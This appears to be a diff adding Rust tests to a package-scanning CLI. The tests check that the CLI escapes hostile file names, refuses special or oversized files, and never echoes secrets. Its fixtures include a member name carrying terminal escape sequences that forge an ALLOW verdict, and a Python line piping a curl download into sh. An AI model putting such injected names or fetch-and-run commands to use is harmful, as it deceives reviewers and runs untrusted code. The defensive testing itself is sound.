@@ -99,3 +99,66 @@ fn terminal_report_snapshot() {
     assert_eq!(code, 1);
     insta::assert_snapshot!(out);
 }
+
+#[test]
+fn hostile_member_names_reach_the_terminal_escaped_and_json_exact() {
+    // #14: this member name would retitle the window, go up a line, erase it and print
+    // a fake ALLOW over the BLOCK line
+    let evil = "canary_pkg/evil\x1b]0;PWNED\x07\x1b[1A\x1b[2K\rALLOW  fake\x1b[8m.py";
+    let dir = tempfile::tempdir().unwrap();
+    let pkg_info = "Metadata-Version: 2.1\nName: canary-pkg\nVersion: 1.0\x1b[2K\r\nSummary: fixture\n";
+    let bad = sdist(dir.path(), "canary-pkg", "1.0", &[("setup.py", CANARY_SETUP), ("PKG-INFO", pkg_info), (evil, "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n")]);
+    for flags in [&["scan"][..], &["scan", "--verbose"][..]] {
+        let (code, out, err) = run(&[flags, &[bad.to_str().unwrap()]].concat());
+        assert_eq!(code, 1, "{out}{err}");
+        for text in [&out, &err] {
+            assert!(!text.bytes().any(|b| matches!(b, 0x1b | 0x0d | 0x07)), "{text:?}");
+        }
+        assert!(out.contains("BLOCK") && out.contains("evil\\x1b]0;PWNED\\x07\\x1b[1A\\x1b[2K\\rALLOW  fake\\x1b[8m.py"), "{out}");
+    }
+    let (_, out, _) = run(&["scan", "--format", "json", bad.to_str().unwrap()]);
+    let v: serde_json::Value = serde_json::from_str(&out).expect("valid JSON");
+    let files: Vec<&str> = v["packages"][0]["alerts"].as_array().unwrap().iter().filter_map(|a| a["file"].as_str()).collect();
+    assert!(files.contains(&format!("canary-pkg-1.0/{evil}").as_str()), "JSON keeps the name exact: {files:?}");
+}
+
+#[cfg(unix)]
+#[test]
+fn check_refuses_special_files_oversized_files_and_does_not_echo_other_files() {
+    // #14: `/dev/zero` was read forever, a FIFO blocked, a .env file was echoed
+    let env = Env::new();
+    let (code, out, err) = env.run(&["check", "/dev/zero"]);
+    assert_eq!(code, 2, "{out}{err}");
+    assert!(err.contains("a character device, not a regular file"), "{err}");
+
+    let fifo = env.dir.path().join("requirements.txt");
+    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
+    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
+    let child = env.command(&["check", fifo.to_str().unwrap()]).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).spawn().unwrap();
+    // a hang guard, not a timing assertion: if the read blocks, a writer releases it
+    let (tx, rx) = std::sync::mpsc::channel();
+    let path = fifo.clone();
+    std::thread::spawn(move || {
+        if rx.recv_timeout(std::time::Duration::from_secs(60)).is_err() {
+            let _ = std::fs::OpenOptions::new().write(true).open(path);
+        }
+    });
+    let done = child.wait_with_output().unwrap();
+    let _ = tx.send(());
+    let err = String::from_utf8_lossy(&done.stderr);
+    assert_eq!(done.status.code(), Some(2), "{err}");
+    assert!(err.contains("a FIFO (named pipe), not a regular file"), "{err}");
+
+    let big = env.dir.path().join("big-requirements.txt");
+    std::fs::File::create(&big).unwrap().set_len(16 * 1024 * 1024 + 1).unwrap();
+    let (code, _, err) = env.run(&["check", big.to_str().unwrap()]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("larger than the limit of 16 MiB"), "{err}");
+
+    let secret = "s3cr3t-value-never-printed";
+    let dotenv = env.write("env-requirements.txt", &format!("six==1.16.0\nAPI_TOKEN={secret}\nDATABASE_URL=postgres://u:{secret}@db/x\n"));
+    let (code, out, err) = env.run(&["check", dotenv.to_str().unwrap()]);
+    assert_eq!(code, 2, "{out}{err}");
+    assert!(err.contains("line 2 is not a requirement"), "{err}");
+    assert!(!out.contains(secret) && !err.contains(secret) && !err.contains("API_TOKEN"), "{out}{err}");
+}
